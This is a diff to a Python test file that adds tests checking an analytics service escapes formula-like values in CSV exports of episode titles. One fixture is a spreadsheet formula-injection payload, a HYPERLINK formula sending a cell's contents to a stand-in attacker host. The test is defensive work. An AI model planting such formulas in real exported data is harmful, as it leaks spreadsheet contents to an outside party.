@@ -12,6 +12,7 @@ import httpx
 import pytest
 
 from aether.analytics import record_async
+from aether.analytics.dashboards import csv_cell
 from aether.analytics.partitions import ensure_partitions_async
 from aether.config import Settings
 from aether.db import Database
@@ -142,3 +143,22 @@ def test_bad_requests_name_the_field(world: dict[str, object]) -> None:
     client = world["client"]
     assert isinstance(client, httpx.Client)
     assert client.get("/v1/analytics/tasks").status_code == 401
+
+
+async def test_csv_cells_that_look_like_formulas_are_neutralized(world: dict[str, object], db: Database) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    await db.execute("UPDATE episodes SET title = %s WHERE id = %s", (formula, world["ep_a"]))
+    await db.execute("UPDATE episodes SET title = %s WHERE id = %s", ("@SUM(1+1)", world["ep_b"]))
+    response = get(world, "admin", "/v1/analytics/downloads-by-episode.csv")
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    assert [(r["title"], r["downloads"]) for r in rows] == [("'" + formula, "4"), ("'@SUM(1+1)", "1")]
+    # the JSON keeps the titles as they are
+    body = get(world, "admin", "/v1/analytics/downloads-by-episode").json()
+    assert [r["title"] for r in body["rows"]] == [formula, "@SUM(1+1)"]
+
+
+def test_csv_cell_rules() -> None:
+    assert [csv_cell(v) for v in ("+1", "-2", "=A1", "@x", "\tx", "plain", "a=b", -3, 0.5, None)] == [
+        "'+1", "'-2", "'=A1", "'@x", "'\tx", "plain", "a=b", -3, 0.5, ""
+    ]  # fmt: skip
